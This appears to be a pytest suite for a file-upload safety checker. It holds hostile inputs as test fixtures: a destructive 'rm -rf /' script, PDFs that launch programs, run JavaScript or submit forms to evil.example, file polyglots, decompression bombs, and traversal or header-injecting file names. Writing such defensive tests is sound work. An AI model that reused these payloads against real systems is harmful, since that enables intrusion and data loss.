"""What is taken, what is not, and what of it is left behind: files told by their content, opened in a limited process."""

import io
import json
import subprocess
import sys
import zipfile

import pikepdf
import pytest
from PIL import Image

from evidence.safety import Refused, examine, plain_name
from evidence.safety.intake import CHILD
from evidence.safety.kinds import FileKind, kind_of
from tests.evidence import pictures

MIB = 1 << 20
MEASURE = """
import json, resource, subprocess, sys
subprocess.run(sys.argv[1:], stdin=sys.stdin, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
used = resource.getrusage(resource.RUSAGE_CHILDREN)
print(json.dumps([used.ru_utime + used.ru_stime, used.ru_maxrss]))
"""
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def look(content, most_bytes=10 * MIB):
    return examine(content, most_bytes=most_bytes)


def archive(name="a.txt"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr(name, "text")
    return out.getvalue()


def root_action(kind, **entries):
    def change(document):
        document.Root.OpenAction = pictures.action(kind, **entries)

    return lambda: pictures.pdf(change=change)


def on_page(**entries):
    def change(document):
        for name, value in entries.items():
            document.pages[0][f"/{name}"] = value

    return lambda: pictures.pdf(change=change)


def with_annotation():
    def change(document):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pictures.action("Launch", F="calc.exe"),
        )
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))

    return pictures.pdf(change=change)


def with_attachment():
    def change(document):
        document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")

    return pictures.pdf(change=change)


def script_in_packed_objects():
    def change(document):
        document.Root.OpenAction = document.make_indirect(pictures.action("JavaScript", JS="app.alert(1)"))

    return pictures.pdf(change=change, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def form_with_script():
    def change(document):
        document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))

    return pictures.pdf(change=change)


def locked(**words):
    return lambda: pictures.pdf(encryption=pikepdf.Encryption(**words))


def many_scans():
    """A progressive JPEG is drawn once a scan; thousands of scans are a bomb in time."""
    content = pictures.encoded(Image.new("RGB", (5000, 5000), "grey"), "JPEG", progressive=True)
    at = content.rfind(b"\xff\xda")
    return content[:at] + content[at:-2] * 1000 + b"\xff\xd9"


PNG, JPEG, WEBP = (
    (lambda: pictures.screenshot()),
    (lambda: pictures.screenshot("JPEG")),
    (lambda: pictures.screenshot("WEBP")),
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
NOT_TAKEN = {
    # nothing the portal takes, whatever its name says
    "svg": (lambda: SVG, "kind"),
    "svg with a prologue": (lambda: b'<?xml version="1.0"?>' + SVG, "kind"),
    "html": (lambda: b"<!doctype html><script>alert(1)</script>", "kind"),
    "html after spaces": (lambda: b"\n\n  <html>", "kind"),
    "eps": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "kind"),
    "tiff": (lambda: pictures.screenshot("TIFF"), "kind"),
    "big-endian tiff": (lambda: b"MM\0*" + bytes(60), "kind"),
    "gif": (lambda: pictures.screenshot("GIF"), "kind"),
    "moving gif": (lambda: pictures.moving("GIF"), "kind"),
    "bmp": (lambda: pictures.screenshot("BMP"), "kind"),
    "ico": (lambda: pictures.screenshot("ICO", size=(32, 32)), "kind"),
    "ppm": (lambda: pictures.screenshot("PPM"), "kind"),
    "jpeg 2000": (lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(60), "kind"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + bytes(60), "kind"),
    "avif": (lambda: b"\0\0\0\x18ftypavif" + bytes(60), "kind"),
    "mp4": (lambda: b"\0\0\0\x18ftypmp42" + bytes(60), "kind"),
    "psd": (lambda: b"8BPS\0\1" + bytes(60), "kind"),
    "zip": (archive, "kind"),
    "office document": (lambda: archive("word/document.xml"), "kind"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(60), "kind"),
    "program": (lambda: b"MZ\x90\0" + bytes(200), "kind"),
    "unix program": (lambda: b"\x7fELF" + bytes(200), "kind"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "kind"),
    "plain text": (lambda: b"a screenshot of nothing", "kind"),
    "eicar": (lambda: EICAR, "kind"),
    "one byte": (lambda: b"\xff", "kind"),
    "nul bytes": (lambda: bytes(4096), "kind"),
    "riff that is sound": (lambda: b"RIFF\x24\0\0\0WAVEfmt " + bytes(40), "kind"),
    "pdf behind other bytes": (lambda: b"\n\n" + pictures.pdf(), "kind"),
    # empty, too big
    "no byte": (lambda: b"", "empty"),
    "one byte over": (lambda: PNG() + bytes(10 * MIB + 1 - len(PNG())), "too_big"),
    # bombs
    "9,000 by 9,000": (lambda: pictures.pixel_bomb(9000, 9000), "pixels"),
    "13,000 by 13,000": (lambda: pictures.pixel_bomb(13_000, 13_000), "pixels"),
    "60,000 by 60,000, said only": (
        lambda: pictures.png(pictures.header(60_000, 60_000), pictures.chunk(b"IEND", b"")),
        "pixels",
    ),
    "largest width": (lambda: pictures.png(pictures.header(2**31 - 1, 1), pictures.chunk(b"IEND", b"")), "pixels"),
    "jpeg of 65,500 by 65,500": (lambda: _resized(JPEG(), 65_500), "pixels"),
    "zTXt bomb": (pictures.text_bomb, "damaged"),
    "iTXt bomb": (lambda: pictures.text_bomb(b"iTXt"), "damaged"),
    "jpeg of a thousand scans": (many_scans, "heavy"),
    # moving
    "moving png": (lambda: pictures.moving("PNG"), "moving"),
    "moving webp": (lambda: pictures.moving("WEBP"), "moving"),
    # damaged
    "png cut in half": (lambda: PNG()[: len(PNG()) // 2], "damaged"),
    "jpeg cut in half": (lambda: JPEG()[: len(JPEG()) // 2], "damaged"),
    "webp cut in half": (lambda: WEBP()[: len(WEBP()) // 2], "damaged"),
    "pdf cut to its start": (lambda: pictures.pdf()[:40], "damaged"),
    "png of its mark only": (lambda: b"\x89PNG\r\n\x1a\n", "damaged"),
    "jpeg of its mark only": (lambda: b"\xff\xd8\xff\xe0", "damaged"),
    "webp of its mark only": (lambda: b"RIFF\x04\0\0\0WEBP", "damaged"),
    "pdf of its mark only": (lambda: b"%PDF-1.7\n", "damaged"),
    "png of no width": (lambda: pictures.png(pictures.header(0, 9), pictures.chunk(b"IEND", b"")), "damaged"),
    "png without pixels": (lambda: pictures.png(pictures.header(9, 9), pictures.chunk(b"IEND", b"")), "damaged"),
    "png with a wrong sum": (lambda: PNG()[:30] + b"\0\0" + PNG()[32:], "damaged"),
    "zip named png": (lambda: b"\x89PNG\r\n\x1a\n" + archive(), "damaged"),
    # two things in one
    "png and zip": (lambda: PNG() + archive(), "hides"),
    "jpeg and zip": (lambda: JPEG() + archive(), "hides"),
    "webp and zip": (lambda: WEBP() + archive(), "hides"),
    "png and html": (lambda: PNG() + b"<script>alert(1)</script>", "hides"),
    "jpeg and html in capitals": (lambda: JPEG() + b"<HTML>", "hides"),
    "png and pdf": (lambda: PNG() + pictures.pdf(), "hides"),
    "pdf inside a png's comment": (lambda: pictures.with_text("%PDF-1.4"), "hides"),
    "jpeg and program": (lambda: JPEG() + b"MZ\x90\0", "hides"),
    # PDF that does something
    "pdf with script": (root_action("JavaScript", JS="app.alert(1)"), "scripted"),
    "pdf with packed script": (script_in_packed_objects, "scripted"),
    "pdf that launches": (root_action("Launch", F="calc.exe"), "scripted"),
    "pdf that sends": (root_action("SubmitForm", F="https://evil.example"), "scripted"),
    "pdf that imports": (root_action("ImportData", F="a.fdf"), "scripted"),
    "pdf with a launching link": (with_annotation, "scripted"),
    "pdf acting when a page opens": (on_page(AA=pikepdf.Dictionary()), "scripted"),
    "pdf with a file in it": (with_attachment, "scripted"),
    "pdf with a program's form": (form_with_script, "scripted"),
    "pdf with a password": (locked(user="secret", owner="other"), "locked"),
    "pdf locked by its owner": (locked(user="", owner="secret"), "locked"),
    "pdf of 21 pages": (lambda: pictures.pdf(21), "pages"),
    "pdf of no page": (lambda: pictures.pdf(0), "damaged"),
}


def _resized(content, side):
    """A JPEG that claims another size in its header."""
    at = content.find(b"\xff\xc0")
    return content[: at + 5] + side.to_bytes(2, "big") * 2 + content[at + 9 :]


def test_at_least_sixty_hostile_files_are_tried():
    assert len(NOT_TAKEN) >= 60


@pytest.mark.parametrize("name", NOT_TAKEN)
def test_a_hostile_file_is_refused_with_what_to_do_instead(name):
    make, reason = NOT_TAKEN[name]

    with pytest.raises(Refused) as refusal:
        look(make())

    assert refusal.value.reason == reason
    assert len(str(refusal.value.sentence)) > 30


@pytest.mark.parametrize("name", ["9,000 by 9,000", "13,000 by 13,000", "zTXt bomb", "jpeg of a thousand scans"])
def test_a_bomb_takes_little_time_and_memory(name):
    make, _reason = NOT_TAKEN[name]
    content = make()
    # A small process in between: of this large one the child would count the memory as its own.
    command = [sys.executable, "-I", "-c", MEASURE, sys.executable, "-I", str(CHILD), kind_of(content).value]

    done = subprocess.run(command, input=content, capture_output=True, timeout=60, check=True)

    seconds, kilobytes = json.loads(done.stdout)
    assert seconds <= 3  # the limit that ends it, not how fast it is
    assert kilobytes <= 400 * 1024


@pytest.mark.parametrize(
    ("kind", "of"),
    [("PNG", FileKind.PNG), ("JPEG", FileKind.JPEG), ("WEBP", FileKind.WEBP)],
    ids=["png", "jpeg", "webp"],
)
def test_a_screenshot_is_taken(kind, of):
    content = pictures.screenshot(kind)

    file = look(content)

    assert (file.kind, file.size, len(file.pages)) == (of, len(content), 1)
    assert (
        Image.open(io.BytesIO(file.pages[0].content)).size == (320, 200) == (file.pages[0].width, file.pages[0].height)
    )


def test_a_document_is_drawn_page_by_page():
    file = look(pictures.pdf(3))

    assert (file.kind, len(file.pages), file.removed) == (FileKind.PDF, 3, ("document",))
    assert {page.kind for page in file.pages} == {FileKind.PNG}


def test_where_a_photo_was_taken_is_left_behind_and_listed():
    content = pictures.with_location()

    file = look(content)

    assert b"Camera of nobody" in content
    assert file.removed == ("exif", "location")
    copy = Image.open(io.BytesIO(file.pages[0].content))
    assert (dict(copy.getexif()), b"Camera" in file.pages[0].content) == ({}, False)


def test_comments_and_what_follows_the_picture_are_left_behind_and_listed():
    file = look(pictures.with_text("Some words") + b"a film of a phone")

    assert file.removed == ("comments", "tail")
    assert b"words" not in file.pages[0].content and b"phone" not in file.pages[0].content


def test_a_turned_photo_stands_upright():
    exif = Image.Exif()
    exif[0x0112] = 6

    file = look(pictures.screenshot("JPEG", exif=exif.tobytes()))

    assert (file.pages[0].width, file.pages[0].height) == (200, 320)


@pytest.mark.parametrize("mode", ["L", "RGBA", "P", "1", "I;16", "CMYK", "LA"])
def test_every_mode_of_a_picture_can_be_shown(mode):
    kind = "JPEG" if mode == "CMYK" else "PNG"

    file = look(pictures.encoded(Image.new(mode, (40, 30)), kind))

    assert Image.open(io.BytesIO(file.pages[0].content)).mode in ("L", "RGB", "RGBA")


def test_a_picture_of_25_million_pixels_is_taken():
    file = look(pictures.pixel_bomb(5000, 5000))

    assert (file.pages[0].width, file.pages[0].height) == (5000, 5000)


def test_the_limit_is_taken_and_one_byte_more_is_not():
    content = pictures.screenshot()

    assert look(content, most_bytes=len(content)).size == len(content)
    with pytest.raises(Refused) as refusal:
        look(content, most_bytes=len(content) - 1)

    assert refusal.value.reason == "too_big"


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("shot.png", "shot.png"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("a\0b.png", "ab.png"),
        ("invoice\u202egnp.exe", "invoicegnp.exe"),
        ("\u200bshot\u2066.png", "shot.png"),
        ("a\r\nSet-Cookie: x.png", "aSet-Cookie: x.png"),
        ("x" * 300 + ".png", "x" * 116 + ".png"),
        ("..", ""),
        ("   ", ""),
        ("\ud800.png", "png"),
    ],
)
def test_a_name_shows_nothing_but_itself(given, shown):
    assert plain_name(given) == shown
